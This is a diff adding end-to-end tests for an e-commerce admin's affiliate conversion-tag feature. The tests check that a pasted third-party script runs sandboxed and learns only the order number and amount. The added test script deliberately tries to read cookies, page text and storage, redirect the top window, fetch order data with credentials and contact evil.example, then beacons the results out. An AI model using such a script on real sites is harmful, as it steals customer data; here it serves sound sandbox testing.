@@ -34,6 +34,29 @@ const clean = async () => {
   await sql('delete from conversion_destination')
 }
 
+/** What an ASP's script could want to know of the page, and what it was told. */
+const ASP_SCRIPT = `
+  const got = { origin: self.origin, referrer: document.referrer }
+  const attempt = (name, look) => {
+    try { got[name] = String(look()) } catch (error) { got[name] = 'refused ' + error.name }
+  }
+  attempt('cookie', () => document.cookie)
+  attempt('page', () => parent.document.body.innerText)
+  attempt('storage', () => localStorage.length)
+  attempt('address', () => parent.location.href)
+  attempt('leads_away', () => { top.location.href = 'https://px.asp.example/away' })
+  const asked = (url) => fetch(url, { credentials: 'include' }).then(({ status }) => 'got ' + status, () => 'refused')
+  function send(order_no, amount, items) {
+    const shop = new URL(location.href.split('/v1/')[0] + '/v1/order/public/list')
+    Promise.all([asked(shop), asked('https://evil.example/')]).then(([shop, evil]) => {
+      new Image().src = 'https://px.asp.example/report?' + new URLSearchParams({ ...got, order_no, amount, items, shop, evil })
+    })
+  }`
+const TAG = `<!-- ASP -->
+<script src="https://px.asp.example/t.js"></script>
+<script>send("{order_no}", {amount}, "{item_codes}")</script>
+<noscript><img src="https://px.asp.example/i.gif?o={order_no}"></noscript>`
+
 journeyInBoth(
   '広告の送信先: what is missing is said beside its field, a medium is tried and switched on',
   async ({ page, step, expectProblem }) => {
@@ -190,6 +213,126 @@ journeyInBoth(
     } finally {
       await clean()
       await sql('update shop set click_id_flag = false where id = 2')
+    }
+  },
+)
+
+journeyInBoth(
+  '広告の送信先: an ASP’s own script runs on the completion page, and learns number and amount only',
+  async ({ page, device, step, expectProblem }) => {
+    expectProblem(
+      /^422: POST \/admin\/v1\/setting\/conversions/,
+      // What the script tries and may not.
+      /Content Security Policy|sandbox|Failed to (fetch|load resource)|evil\.example|Unsafe attempt|px\.asp\.example/,
+    )
+    await clean()
+    const asp: URL[] = []
+    const headers: Record<string, string>[] = []
+    let evil = 0
+    await device.route('https://px.asp.example/**', async (route) => {
+      const url = new URL(route.request().url())
+      asp.push(url)
+      headers.push(await route.request().allHeaders())
+      return url.pathname === '/t.js'
+        ? route.fulfill({ contentType: 'text/javascript', body: ASP_SCRIPT })
+        : route.fulfill({ status: 204 })
+    })
+    await device.route('https://evil.example/**', (route) => {
+      evil++
+      return route.fulfill({ status: 200, body: '' })
+    })
+    try {
+      step('the manager pastes the tag; a host that is not named is said beside it')
+      await signIn(page, 'manager')
+      await page.goto('/admin/setting/conversions/new')
+      await page.getByRole('button', { name: 'ASPなど(完了画面のタグ)' }).click()
+      await page.getByLabel(/^提供先の会社名と国/).fill('株式会社ASP(日本)')
+      await page.getByLabel(/^名前/).fill('ASPのタグ')
+      await page.getByLabel(/^ASPのタグ/).fill(TAG)
+      await page.getByLabel(/^読み込みを許すホスト/).fill('img.asp.example')
+      await page.getByRole('button', { name: '追加する', exact: true }).click()
+      await page.getByText('確かめて、チェックを入れてください', { exact: false }).waitFor()
+      await page.getByLabel(/^タグはASPから渡されたもので/).check()
+      await page.getByRole('button', { name: '追加する', exact: true }).click()
+      await page.getByText('px.asp.example は、読み込みを許すホストにありません。').waitFor()
+      await inspect(page, 'admin-conversion-frame-error')
+      await page.getByLabel(/^読み込みを許すホスト/).fill('px.asp.example')
+      await page.getByRole('button', { name: '追加する', exact: true }).click()
+      await page.getByRole('heading', { level: 1, name: 'ASPのタグ' }).waitFor()
+
+      step('the document is shown with invented values, and nobody is asked')
+      await page.getByRole('button', { name: '中身を見る' }).click()
+      await page.getByText('sandbox allow-scripts', { exact: false }).waitFor()
+      await inspect(page, 'admin-conversion-frame-tried')
+      expect(asp).toEqual([])
+      await page.getByRole('button', { name: '送り始める' }).click()
+      await page.getByRole('dialog').getByRole('button', { name: '送り始める' }).click()
+      await page.getByText('送っています').waitFor()
+
+      step('a customer agrees, and orders')
+      await page.goto('/robots.txt')
+      await device.clearCookies()
+      const member = await memberWith(device, { sku: 101 })
+      await page.goto('cart')
+      await checkOut(page)
+      await payCash(page)
+      await toConfirmation(page)
+      await page.getByRole('checkbox', { name: /^広告の成果を測り/ }).check()
+      await order(page)
+      await completed(page)
+      const report = () => asp.find(({ pathname }) => pathname === '/report')
+      await expect.poll(report, { timeout: 15_000 }).toBeDefined()
+      const [{ order_no, payment_total }] = (await sql<{ order_no: string; payment_total: number }>(
+        `select order_no, payment_total from orders order by id desc limit 1`,
+      )) as [{ order_no: string; payment_total: number }]
+      expect(Object.fromEntries(report()!.searchParams)).toEqual({
+        origin: 'null',
+        referrer: '',
+        cookie: 'refused SecurityError',
+        page: 'refused SecurityError',
+        storage: 'refused SecurityError',
+        address: 'refused SecurityError',
+        leads_away: 'refused SecurityError',
+        order_no,
+        amount: String(payment_total),
+        items: expect.stringMatching(/^[\w-]+\.1\.\d+$/),
+        shop: 'refused',
+        evil: 'refused',
+      })
+      expect(evil).toBe(0)
+      expect(asp.map(({ pathname }) => pathname).sort()).toEqual(['/report', '/t.js'])
+      for (const sent of headers) expect(sent).not.toHaveProperty('referer')
+      expect(JSON.stringify([asp, headers])).not.toMatch(new RegExp(`${member.email}|kushi`, 'i'))
+      const address = await page.locator('iframe[title="広告の成果"]').getAttribute('src')
+      expect((await page.request.get(address!)).status()).toBe(404)
+      expect(await page.locator('iframe[title="広告の成果"]').getAttribute('sandbox')).toBe('allow-scripts')
+      await inspect(page, 'complete-measured')
+
+      step('the page again: nothing is told a second time')
+      await page.reload()
+      await completed(page)
+      await page.waitForLoadState('networkidle')
+      expect(asp).toHaveLength(2)
+      expect(await page.locator('iframe[title="広告の成果"]').count()).toBe(0)
+
+      step('the shop knows that it was shown, and what the medium counted beside it')
+      await sql(`insert into ad_campaign (shop_id, adcd, campaign_name, group_name) values (2, 'FRAME1', 'ASP', 'ASPのタグ')
+        on conflict do nothing`)
+      await sql(`insert into ad_cost (shop_id, day, adcd, yen, reported)
+        select 2, (created_at at time zone 'Asia/Tokyo')::date, 'FRAME1', 1000, 2 from orders order by id desc limit 1 on conflict do nothing`)
+      await sql(`update conversion_destination set ad_group = 'ASPのタグ'`)
+      await signIn(page, 'manager')
+      await page.goto('/admin/setting/conversions')
+      await page.getByRole('rowheader', { name: '媒体の成果', exact: true }).waitFor()
+      await inspect(page, 'admin-conversions-figures')
+      await page.getByRole('link', { name: '1', exact: true }).first().click()
+      await page.getByText('完了画面に出しました').waitFor()
+      await page.getByText('すべてを見る').waitFor()
+      await inspect(page, 'admin-conversion-frame-shown')
+    } finally {
+      await clean()
+      await sql(`delete from ad_campaign where adcd = 'FRAME1'`)
+      await sql(`delete from ad_cost where adcd = 'FRAME1'`)
     }
   },
 )
